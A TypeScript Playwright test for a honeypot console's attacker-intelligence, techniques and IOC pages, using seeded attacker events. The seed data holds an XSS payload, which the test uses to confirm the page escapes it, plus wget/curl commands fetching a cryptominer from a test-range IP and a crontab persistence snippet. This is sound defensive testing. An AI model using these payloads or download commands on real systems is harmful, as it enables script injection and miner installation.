import { readFileSync } from 'node:fs'
import { createDatabase, defaultDatabaseUrl, type IntelAnalyser, type LogEventInput } from '@decnet/db'
import { expect, test } from '../../fixtures/stack.ts'
import { adminSession, shot } from '../../fixtures/ui-helpers.ts'

type EventFindings = ReturnType<IntelAnalyser['analyseEvent']>

const none = (): EventFindings => ({ fingerprints: [], tools: [], techniques: [], iocs: [], behaviour: {} })
/** Ingest with an analyser that returns what each event carries: the console is tested, not the rules. */
const carried: IntelAnalyser = {
  analyseEvent: (event) => (event.fields.findings as EventFindings | undefined) ?? none(),
  classifyAttacker: (summary) =>
    (summary.behaviour.interactiveCommands ?? 0) > 0
      ? { class: 'interactive', evidence: [`${summary.behaviour.interactiveCommands} typed commands`] }
      : { class: 'unknown', evidence: [] },
  versions: { tools: 't', techniques: 'k', iocs: 'i', classification: 'c' },
}

const HOSTILE = '<img src=x onerror="window.__owned=1">'
const MINER_URL = 'http://198.18.7.9/xmrig'

function command(ip: string, findings: Partial<EventFindings>): LogEventInput {
  return {
    timestamp: new Date(),
    decky: 'intel-01',
    service: 'ssh',
    eventType: 'command',
    attackerIp: ip,
    attackerPort: 40000,
    rawLine: 'command',
    fields: { findings: { ...none(), ...findings } },
  }
}

test('intelligence: attacker class, techniques and indicators; fleet Techniques and IOCs pages with exports', async ({
  page,
  stack,
}) => {
  test.setTimeout(180_000)
  const db = createDatabase(defaultDatabaseUrl(stack.dataDir), { intel: carried })
  try {
    await db.logs.ingest([
      command('198.18.7.1', {
        behaviour: { interactiveSessions: 1, interactiveCommands: 2 },
        tools: [{ tool: 'wget', ruleId: 'tool.wget.ua', evidence: `Wget/1.21 ${HOSTILE}` }],
        techniques: [
          { technique: 'T1105', ruleId: 'attack.wget', evidence: `wget ${MINER_URL}` },
          { technique: 'T1053.003', ruleId: 'attack.crontab', evidence: '(crontab -l; echo …) | crontab -' },
        ],
        iocs: [
          { kind: 'url', value: MINER_URL, source: 'command' },
          { kind: 'filename', value: `${HOSTILE}.sh`, source: 'command' },
        ],
        fingerprints: [
          { kind: 'hassh', value: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1', detail: 'kex;enc;mac;cmp' },
        ],
      }),
      command('198.18.7.2', {
        techniques: [{ technique: 'T1105', ruleId: 'attack.curl', evidence: `curl -O ${MINER_URL}` }],
        iocs: [{ kind: 'url', value: MINER_URL, source: 'command' }],
      }),
    ])
  } finally {
    await db.close()
  }
  const { errors, client } = await adminSession(page, stack)
  const attacker = (await client.attackers.list.query({ q: '198.18.7.1' })).rows[0]
  expect(attacker).toBeDefined()

  await page.goto(`${stack.webUrl}/attackers/${attacker?.id}`)
  const intel = page.getByTestId('attacker-intel')
  await expect(intel.getByTestId('attacker-class')).toHaveText('Interactive human')
  await expect(intel.getByTestId('class-evidence')).toContainText('2 typed commands')
  await expect(intel.getByTestId('attacker-tools')).toContainText(HOSTILE)
  const techniques = intel.getByTestId('attacker-techniques').getByTestId('technique-row')
  await expect(techniques).toHaveCount(2)
  await expect(intel.getByRole('link', { name: 'T1053.003' })).toHaveAttribute(
    'href',
    'https://attack.mitre.org/techniques/T1053/003/',
  )
  await expect(intel.getByTestId('attacker-iocs')).toContainText(MINER_URL)
  await expect(intel.getByTestId('attacker-fingerprints')).toContainText('ec7378c1a92f5a8dde7e8b7a1ddf33d1')
  expect(await page.evaluate(() => (window as { __owned?: number }).__owned)).toBeUndefined()
  await shot(page, 'attacker-intel.png')

  await page.getByRole('navigation').getByRole('link', { name: 'Techniques' }).click()
  const t1105 = page.getByTestId('techniques-table').getByTestId('technique-row').filter({ hasText: 'T1105' })
  // Fleet-wide: earlier specs on this shared stack (artifacts.spec's wget) may add their own T1105
  // attacker; the two seeded here are counted exactly on the IOC row of this spec's own URL below.
  await expect(t1105.locator('td').nth(2)).toHaveText(/^([2-9]|\d{2,})$/)
  await expect(t1105.getByRole('link', { name: /198\.18\.7\.1/ })).toBeVisible()
  const layerDownload = page.waitForEvent('download')
  await page.getByTestId('navigator-layer').click()
  const layer = JSON.parse(readFileSync((await (await layerDownload).path()) as string, 'utf8'))
  expect(layer.versions.layer).toBe('4.5')
  expect(
    (layer.techniques as { techniqueID: string; score: number }[]).find((t) => t.techniqueID === 'T1105')
      ?.score,
  ).toBeGreaterThanOrEqual(2)
  await shot(page, 'techniques.png')

  await page.getByRole('navigation').getByRole('link', { name: 'IOCs' }).click()
  await page.getByTestId('ioc-kind').selectOption('url')
  const row = page.getByTestId('iocs-table').getByTestId('ioc-row').filter({ hasText: MINER_URL })
  await expect(row.locator('td').nth(2)).toHaveText('2')
  await page.getByTestId('ioc-kind').selectOption('filename')
  await expect(page.getByTestId('iocs-table')).toContainText(`${HOSTILE}.sh`)
  await page.getByTestId('ioc-kind').selectOption('url')
  const csvDownload = page.waitForEvent('download')
  await page.getByTestId('export-csv').click()
  const csv = readFileSync((await (await csvDownload).path()) as string, 'utf8')
  expect(csv.split('\r\n')[0]).toBe('kind,value,attackers,hits,firstSeen,lastSeen')
  expect(csv).toContain(`url,${MINER_URL},2,2,`)
  await shot(page, 'iocs.png')
  expect(errors()).toEqual([])
})
